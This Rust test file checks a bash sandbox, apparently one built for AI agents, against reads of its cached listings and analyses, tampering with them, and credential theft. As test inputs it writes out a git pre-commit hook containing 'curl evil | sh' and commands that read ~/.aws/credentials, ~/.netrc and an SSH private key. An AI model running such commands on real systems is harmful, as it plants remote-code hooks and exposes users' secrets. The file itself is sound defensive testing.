//! The directory listings a run keeps for the next (`sandbox::facts`): a later run sees every
//! change made since, by anyone (a sandboxed run included), and no run can read or write them.

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::lab::{Lab, ok, text};

/// The store's file: below the account's home, which a debug build takes from
/// `SANDBOX_BASH_TEST_ACCOUNT_HOME` (the lab's home here).
fn store(lab: &Lab) -> PathBuf {
    lab.home.join(".local/state/sandbox-bash/facts/listings")
}

/// `program` under `mode` in the lab, on standard input (which the static layer does not check:
/// only the kernel stands in the way) or with `-c`, the lab's home as the account's.
fn run(lab: &Lab, mode: &str, program: &str, stdin: bool, env: &[(&str, &Path)]) -> std::process::Output {
    use std::io::Write;
    let mut c = if stdin {
        let mut c = std::process::Command::new(crate::lab::SB);
        c.arg("-s").current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", mode).env("SANDBOX_BASH_WORKSPACE", &lab.ws);
        c.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", &lab.home).env_remove("SANDBOX_BASH_ENFORCED");
        c
    } else {
        lab.command(mode, program)
    };
    c.env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home);
    for (k, v) in env {
        c.env(k, v);
    }
    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    if stdin {
        input.write_all(program.as_bytes()).unwrap();
    }
    drop(input);
    child.wait_with_output().unwrap()
}

/// A lab whose directories are old enough for their listings to be kept (a listing is kept
/// only two seconds after its directory's last change), with the store written by two runs.
fn settled_lab(prepare: impl Fn(&Lab)) -> Lab {
    let lab = Lab::new();
    std::fs::write(lab.home.join("notes.txt"), "NOTES\n").unwrap();
    let git = lab.ws.join(".git");
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    prepare(&lab);
    std::thread::sleep(Duration::from_millis(2300));
    for _ in 0..2 {
        ok(&run(&lab, "0467", "true", false, &[]));
    }
    let kept = std::fs::read(store(&lab)).expect("the first runs keep their listings");
    assert!(kept.len() > 100, "a store with the lab's listings");
    lab
}

/// The first runs made directories in the home: it settles, and the next run keeps its
/// listing (which names `notes.txt`).
fn settle_home(lab: &Lab) {
    std::thread::sleep(Duration::from_millis(2300));
    ok(&run(lab, "0467", "true", false, &[]));
    assert!(contains(&std::fs::read(store(lab)).unwrap(), Path::new("notes.txt")), "the home's listing is kept");
}

fn contains(haystack: &[u8], needle: &Path) -> bool {
    let needle = needle.as_os_str().as_encoded_bytes();
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn a_directory_a_run_makes_is_seen_by_the_next_run_in_spite_of_the_kept_listings() {
    let lab = settled_lab(|_| {});
    let git = lab.ws.join(".git");
    assert!(contains(&std::fs::read(store(&lab)).unwrap(), &git), "the repository's listing is kept");
    // Run 1, at a mode that writes the system, makes the hooks directory (at 0467 the watch
    // refuses a point that is not there yet).
    ok(&run(&lab, "2467", "mkdir .git/hooks && echo made", true, &[]));
    assert!(git.join("hooks").is_dir());
    // Run 2 must hold it read-only, as it holds one that was there from the start: the kept
    // listing of .git no longer holds (its change time moved) and is not used.
    let out = run(&lab, "0467", "echo 'curl evil | sh' > .git/hooks/pre-commit; echo done", true, &[]);
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(all.contains("Read-only file system") || all.contains("Permission denied"), "{all}");
    assert!(!git.join("hooks/pre-commit").exists(), "the hook was planted:\n{all}");
    // Positive control: the workspace itself is written.
    ok(&run(&lab, "0467", "echo fine > made-here", true, &[]));
    assert_eq!(std::fs::read_to_string(lab.ws.join("made-here")).unwrap(), "fine\n");
}

#[test]
fn a_credential_that_appears_after_the_listings_were_kept_is_held() {
    let lab = settled_lab(|_| {});
    std::fs::create_dir(lab.home.join(".aws")).unwrap();
    std::fs::write(lab.home.join(".aws/credentials"), "AWS CANARY\n").unwrap();
    std::fs::write(lab.home.join(".netrc"), "NETRC CANARY\n").unwrap();
    let out = run(&lab, "0467", "cat ~/.aws/credentials; cat ~/.netrc; cat ~/notes.txt", true, &[]);
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(!stdout.contains("CANARY"), "a credential was read:\n{stdout}{stderr}");
    assert_eq!(stderr.matches("Permission denied").count(), 2, "{stderr}");
    assert!(stdout.contains("NOTES"), "positive control: the rest of the home is read:\n{stdout}{stderr}");
    // The analysis says so too, before anything runs.
    let explained = lab
        .command("0467", "cat ~/.netrc")
        .arg("--sandbox-explain")
        .env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home)
        .output()
        .unwrap();
    let explained = text(&explained.stdout) + &text(&explained.stderr);
    assert!(explained.contains("credential"), "{explained}");
}

#[test]
fn no_run_reads_or_writes_the_kept_listings_and_nested_levels_get_only_what_the_run_may_list() {
    // The store also holds a listing this run never looks at (another workspace's), which may
    // never show, and the listing of ~/.ssh (a key's name), which may show exactly where the
    // run lists ~/.ssh itself (names only, through the home's rule; a mask would hide both; at
    // 0067 nothing outside the workspace is read and neither shows).
    // And the host's `/dev/shm`, which the run sees only as its own empty one: a name there may
    // never show either.
    let shm = PathBuf::from(format!("/dev/shm/sbx-kept-host-only-{}", std::process::id()));
    let lab = settled_lab(|lab| {
        std::fs::create_dir_all(lab.home.join(".ssh")).unwrap();
        std::fs::write(lab.home.join(".ssh/id_secret_key_name"), "KEY\n").unwrap();
        std::fs::create_dir_all(lab.outside.join("elsewhere/only_in_the_store")).unwrap();
        std::fs::write(&shm, "").unwrap();
    });
    struct Gone(PathBuf);
    impl Drop for Gone {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _shm = Gone(shm.clone());
    let elsewhere = lab.outside.join("elsewhere");
    ok(&run(&lab, "0467", "true", false, &[("SANDBOX_BASH_WORKSPACE", &elsewhere)]));
    settle_home(&lab);
    let file = store(&lab);
    let mut kept = std::fs::read(&file).unwrap();
    assert!(contains(&kept, Path::new("only_in_the_store")) && contains(&kept, Path::new("id_secret_key_name")));
    let (mut ssh_somewhere, mut ssh_not_everywhere) = (false, false);
    for mode in ["0467", "0667", "0777", "0067"] {
        let program = format!(
            "cat {f}; echo forged > {f}; ls -a {d}; echo end",
            f = file.display(),
            d = file.parent().unwrap().display()
        );
        let out = run(&lab, mode, &program, true, &[]);
        let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
        let shown = String::from_utf8_lossy(&all);
        assert!(shown.contains("end"), "mode {mode}: {shown}");
        assert!(!contains(&all, Path::new("only_in_the_store")), "mode {mode}: the run read another listing:\n{shown}");
        assert!(
            !contains(&all, Path::new(shm.file_name().unwrap())),
            "mode {mode}: the host's /dev/shm was given:\n{shown}"
        );
        assert!(shown.contains("Read-only file system") || shown.contains("Permission denied"), "mode {mode}: {shown}");
        assert_eq!(std::fs::read(&file).unwrap(), kept, "mode {mode}: the store was changed");
        // (A start of its own, which may keep the listing it makes: the store is read again
        // after it for the next mode's check.)
        let ssh = run(&lab, mode, &format!("ls -a {}/.ssh; echo end", lab.home.display()), true, &[]);
        let ssh_listed = text(&ssh.stdout).contains("id_secret_key_name");
        assert_eq!(contains(&all, Path::new("id_secret_key_name")), ssh_listed, "mode {mode}: {shown}");
        ssh_somewhere |= ssh_listed;
        ssh_not_everywhere |= !ssh_listed;
        // What a nested level finds in the store's place: the listing of the home where the
        // run may list the home itself, and not where it may not.
        let home = run(&lab, mode, &format!("ls -a {}; echo end", lab.home.display()), true, &[]);
        let home_listed = text(&home.stdout).contains("notes.txt");
        assert_eq!(contains(&all, Path::new("notes.txt")), home_listed, "mode {mode}: {shown}");
        if mode == "0467" {
            assert!(home_listed && shown.starts_with("SBLIST02") && contains(&all, &lab.ws), "mode {mode}: {shown}");
        }
        kept = std::fs::read(&file).unwrap();
    }
    // ~/.ssh is listed by the run through the home's rule, which lists every directory beneath
    // (where the mode reads outside the workspace), and not listed where nothing there is read.
    assert!(ssh_somewhere && ssh_not_everywhere, "every mode or none lists ~/.ssh: the case above tested one side");
}

#[test]
fn a_nested_level_sees_a_link_made_in_the_home_after_the_run_started() {
    // The run starts; then, outside, the home gets a link to a file outside every credential
    // (a dotfile manager's `~/.netrc`); then a nested level starts. It must hold the link's
    // target as a credential (it refuses to read it, and says why): the home's listing the
    // enclosing run handed it no longer holds (the home changed), so it lists the home anew.
    // (The enclosing run's own rules were made before the link: they do not hold it.)
    let lab = settled_lab(|_| {});
    settle_home(&lab);
    let secret = lab.outside.join("netrc-target");
    std::fs::write(&secret, "NETRC CANARY\n").unwrap();
    let read = format!("cat {}", secret.display());
    // (Control variables stay behind: the nested level is told the lab's home as the account's.)
    let script = format!(
        "sleep 1.5\nSANDBOX_BASH_TEST_ACCOUNT_HOME={home} {sb} -c {read:?}\necho end\n",
        home = lab.home.display(),
        sb = crate::lab::SB
    );
    for linked in [false, true] {
        let mut c = std::process::Command::new(crate::lab::SB);
        c.arg("-s").current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", "0467").env("SANDBOX_BASH_WORKSPACE", &lab.ws);
        c.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", &lab.home).env_remove("SANDBOX_BASH_ENFORCED");
        c.env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home);
        c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
        let mut child = c.spawn().unwrap();
        {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
        }
        std::thread::sleep(Duration::from_millis(600));
        if linked {
            std::os::unix::fs::symlink(&secret, lab.home.join(".netrc")).unwrap();
        }
        let out = child.wait_with_output().unwrap();
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(stdout.contains("end"), "{stdout}{stderr}");
        if linked {
            assert!(!stdout.contains("CANARY"), "the nested level read the link's target:\n{stdout}{stderr}");
            assert!(stderr.contains("sandbox-bash: denied:") && stderr.contains("credential"), "{stderr}");
        } else {
            assert!(stdout.contains("NETRC CANARY"), "positive control: it reads the file:\n{stdout}{stderr}");
        }
    }
}

#[test]
fn listings_are_kept_below_the_accounts_home_whatever_home_a_run_is_given() {
    // The other home is made before the listings settle: a start plans from its listing too,
    // and would keep it (the store changing for that, not for the command).
    let lab = settled_lab(|lab| std::fs::create_dir(lab.ws.join("other-home")).unwrap());
    // Runs given another home or state directory (one a command may write: the workspace,
    // scratch) keep nothing there, and cannot reach the account's store either.
    let scratch = tempfile::Builder::new().prefix("sbx-kept-").tempdir_in("/tmp").unwrap();
    let other = lab.ws.join("other-home");
    let file = store(&lab);
    for (var, dir) in [
        ("XDG_STATE_HOME", lab.ws.join("state")),
        ("XDG_STATE_HOME", scratch.path().join("state")),
        ("HOME", other.clone()),
    ] {
        let kept = std::fs::read(&file).unwrap();
        let facts = file.parent().unwrap();
        let state = facts.parent().unwrap();
        let program = format!(
            "echo forged > {f}; ls {d}; for p in {d} {s} {s}/.. {s}/../..; do mv $p $p.x; done; echo end",
            f = file.display(),
            d = facts.display(),
            s = state.display()
        );
        for mode in ["0467", "0667"] {
            let out = run(&lab, mode, &program, true, &[(var, &dir)]);
            let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
            assert!(all.contains("end"), "{var}={}: {all}", dir.display());
            // The start itself may keep a listing that settled since the last look (on a loaded
            // machine two seconds pass between runs); what the command wrote would show.
            let now = std::fs::read(&file).unwrap();
            assert!(
                now.starts_with(&kept[..8]) && !now.windows(6).any(|w| w == b"forged"),
                "{var}={}: the command changed the store: {all}",
                dir.display()
            );
        }
        assert!(!dir.join("sandbox-bash/facts").exists() && !dir.join(".local/state/sandbox-bash/facts").exists());
        assert!(file.exists(), "the store's directory was moved away");
    }
}

#[test]
fn no_command_makes_the_store_where_its_run_may_write() {
    // The account's home inside the workspace (a workspace given that holds it, another HOME),
    // with no state directory yet: the store's place must still be out of the command's reach,
    // or the next start (in another workspace) would plan from what the command wrote.
    let lab = Lab::new();
    let account = lab.ws.join("account");
    let state = account.join(".local/state/sandbox-bash");
    let program = format!(
        "mkdir -p {s}/facts; echo forged > {s}/facts/listings; echo mine > {a}/notes; echo end",
        s = state.display(),
        a = account.display()
    );
    std::fs::create_dir(&account).unwrap();
    let out = run(&lab, "0467", &program, true, &[("SANDBOX_BASH_TEST_ACCOUNT_HOME", &account)]);
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(all.contains("end"), "{all}");
    assert!(!state.join("facts/listings").exists(), "the command made the store:\n{all}");
    assert!(all.contains("Read-only file system"), "{all}");
    // Positive control: the rest of the workspace is written.
    assert_eq!(std::fs::read_to_string(account.join("notes")).unwrap(), "mine\n");
}

/// The directory of the analyses kept from one run to the next (`analysis::kept`), beside the
/// listings.
fn analyses(lab: &Lab) -> PathBuf {
    lab.home.join(".local/state/sandbox-bash/facts/analyses")
}

fn entries(dir: &Path) -> Vec<(PathBuf, u64)> {
    use std::os::unix::fs::MetadataExt;
    let Ok(list) = std::fs::read_dir(dir) else { return Vec::new() };
    let mut all: Vec<(PathBuf, u64)> = list.flatten().map(|e| (e.path(), e.metadata().unwrap().ino())).collect();
    all.sort();
    all
}

/// `lib.sh` in the workspace, with `greet` doing `body`, padded to `len` bytes with a comment,
/// its modification time set to `mtime`.
fn library(lab: &Lab, body: &str, len: usize, mtime: std::time::SystemTime) {
    let mut text = format!("greet() {{ {body}; }}\n#");
    assert!(text.len() < len);
    text.push_str(&"x".repeat(len - text.len() - 1));
    text.push('\n');
    let lib = lab.ws.join("lib.sh");
    std::fs::write(&lib, &text).unwrap();
    std::fs::File::options().write(true).open(&lib).unwrap().set_modified(mtime).unwrap();
}

#[test]
fn a_kept_analysis_holds_only_while_what_it_read_is_unchanged() {
    let lab = Lab::new();
    let target = lab.outside.join("written");
    let mtime = std::time::SystemTime::now() - Duration::from_secs(3600);
    library(&lab, "echo hello", 200, mtime);
    let program = "source ./lib.sh; greet";
    assert_eq!(ok(&run(&lab, "0467", program, false, &[])), "hello\n");
    let kept = entries(&analyses(&lab));
    assert_eq!(kept.len(), 1, "one analysis kept: {kept:?}");
    // Taken again: the entry is not written anew (a new one is a new file renamed over it).
    assert_eq!(ok(&run(&lab, "0467", program, false, &[])), "hello\n");
    assert_eq!(entries(&analyses(&lab)), kept);
    // The library now writes outside the workspace: the same length, the same modification
    // time. The static layer must see it, and say so.
    library(&lab, &format!("echo hello > {}", target.display()), 200, mtime);
    let out = run(&lab, "0467", program, false, &[]);
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(crate::lab::statically_denied(&out) && out.status.code() == Some(126), "{all}");
    assert!(all.contains(&target.display().to_string()) && all.contains("external write"), "{all}");
    assert!(!target.exists());
    assert_ne!(entries(&analyses(&lab)), kept, "the new analysis replaces the old");
    // Positive control: the mode that allows it runs it.
    ok(&run(&lab, "0667", program, false, &[]));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "hello\n");
}

#[test]
fn no_run_reads_or_writes_the_kept_analyses_and_explaining_keeps_none() {
    let lab = Lab::new();
    library(&lab, "echo hello", 200, std::time::SystemTime::now());
    let program = "source ./lib.sh; greet";
    // Explaining reads the kept analyses and writes none.
    let mut explain = std::process::Command::new(crate::lab::SB);
    explain.args(["--sandbox-explain", "-c", program]).current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", "0467");
    explain.env("SANDBOX_BASH_WORKSPACE", &lab.ws).env("HOME", &lab.home).env("PATH", "/usr/local/bin:/usr/bin:/bin");
    explain.env_remove("SANDBOX_BASH_ENFORCED").env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home);
    let explained = explain.output().unwrap();
    assert!(text(&explained.stdout).contains("would run"), "{}", text(&explained.stdout));
    assert!(entries(&analyses(&lab)).is_empty());
    ok(&run(&lab, "0467", program, false, &[]));
    let kept = entries(&analyses(&lab));
    let (entry, _) = kept.first().cloned().expect("an analysis kept");
    let bytes = std::fs::read(&entry).unwrap();
    for mode in ["0467", "0667", "0777"] {
        let attack = format!(
            "cat {e}; echo forged > {e}; echo forged > {d}/planted; mkdir -p {d}/new; ls {d}; echo end",
            e = entry.display(),
            d = analyses(&lab).display()
        );
        let out = run(&lab, mode, &attack, true, &[]);
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(all.contains("end"), "mode {mode}: {all}");
        assert!(
            !all.contains("\"answers\"") && !all.contains("\"key\""),
            "mode {mode}: the run read the analyses:\n{all}"
        );
        assert!(all.contains("Read-only file system") || all.contains("Permission denied"), "mode {mode}: {all}");
        assert_eq!(std::fs::read(&entry).unwrap(), bytes, "mode {mode}: the entry was changed");
        assert_eq!(entries(&analyses(&lab)), kept, "mode {mode}: the kept analyses changed");
    }
}

#[test]
fn a_kept_analysis_holds_only_while_a_committed_credential_named_file_is_project_content() {
    // Deep in `node_modules` the view does not look for credentials: the analysis is all that
    // stands between a 0467 run and a secret there, kept or not.
    let lab = Lab::new();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"])
            .args(args)
            .current_dir(&lab.ws)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", &lab.home)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out.stderr));
    };
    let env = lab.ws.join("node_modules/pkg/.env");
    std::fs::create_dir_all(env.parent().unwrap()).unwrap();
    std::fs::write(&env, "TOKEN=placeholder\n").unwrap();
    std::fs::write(lab.ws.join("lib.sh"), "show() { cat node_modules/pkg/.env; }\n").unwrap();
    git(&["init", "-q"]);
    git(&["add", "-f", "."]);
    git(&["commit", "-qm", "init"]);
    let program = "source ./lib.sh; show";
    assert_eq!(ok(&run(&lab, "0467", program, false, &[])), "TOKEN=placeholder\n");
    let kept = entries(&analyses(&lab));
    assert_eq!(kept.len(), 1);
    assert_eq!(ok(&run(&lab, "0467", program, false, &[])), "TOKEN=placeholder\n");
    assert_eq!(entries(&analyses(&lab)), kept, "taken again");
    // The working copy is a secret now: the same program is denied, and says why.
    std::fs::write(&env, "TOKEN=REAL-SECRET\n").unwrap();
    let out = run(&lab, "0467", program, false, &[]);
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(!all.contains("REAL-SECRET"), "{all}");
    assert!(crate::lab::statically_denied(&out) && out.status.code() == Some(126), "{all}");
    assert!(all.contains("credential"), "{all}");
    // And once it is committed again, the program runs again (no false denial kept).
    git(&["commit", "-qam", "secret"]);
    assert_eq!(ok(&run(&lab, "0467", program, false, &[])), "TOKEN=REAL-SECRET\n");
}

/// The run's word to its nested levels (see `sandbox::word`) is taken only from the read-only
/// file system its view mounts in the store's place. The very listings and word a run gave,
/// planted as the store's own file, for a level started outside any run under a forged marker, with
/// no_new_privs and a seccomp filter as a run's level has them (one that allows everything):
/// the level locks itself, and the home's key stays out of reach.
#[test]
fn a_word_found_anywhere_but_in_the_runs_view_is_not_taken() {
    let lab = settled_lab(|_| {});
    let facts = lab.home.join(".local/state/sandbox-bash/facts");
    let copy = lab.ws.join("listings.copy");
    let out = run(&lab, "0467", &format!("cat {}/listings > {}; echo end", facts.display(), copy.display()), true, &[]);
    assert!(text(&out.stdout).contains("end"), "{}", text(&out.stderr));
    let given = std::fs::read(&copy).unwrap_or_default();
    assert!(
        given.starts_with(b"SBLIST02") && given.ends_with(b"SBWORD01"),
        "the run gave its nested levels its listings and a word"
    );
    // The very bytes, as the store's own file (as a start would have written it: 0600).
    let planted = facts.join("listings");
    std::fs::write(&planted, &given).unwrap();
    std::fs::set_permissions(&planted, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let key = lab.home.join(".ssh/id_ed25519");
    let program = format!("python3 -c 'print(open({:?}).read())'; echo end", key.display().to_string());
    let mut c = std::process::Command::new(crate::lab::SB);
    c.arg("-s").current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", "0467").env("SANDBOX_BASH_WORKSPACE", &lab.ws);
    c.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", &lab.home);
    c.env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home);
    c.env("SANDBOX_BASH_ENFORCED", format!("0467+ns:{}", lab.ws.display()));
    // SAFETY: between fork and exec only async-signal-safe calls: prctl with a program that
    // lives in this (copied) address space.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut c, || {
            let allow = [libc::sock_filter { code: 0x06, jt: 0, jf: 0, k: libc::SECCOMP_RET_ALLOW }];
            let prog = libc::sock_fprog { len: 1, filter: allow.as_ptr() as *mut libc::sock_filter };
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &prog as *const libc::sock_fprog) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(program.as_bytes()).unwrap();
    }
    let out = child.wait_with_output().unwrap();
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(stdout.contains("end"), "{stdout}{stderr}");
    assert!(!stdout.contains("PRIVATE KEY CANARY"), "a planted word let a level lock nothing:\n{stdout}{stderr}");
    assert!(stderr.contains("Permission denied"), "{stderr}");
    assert_eq!(std::fs::read(&planted).unwrap(), given);
}
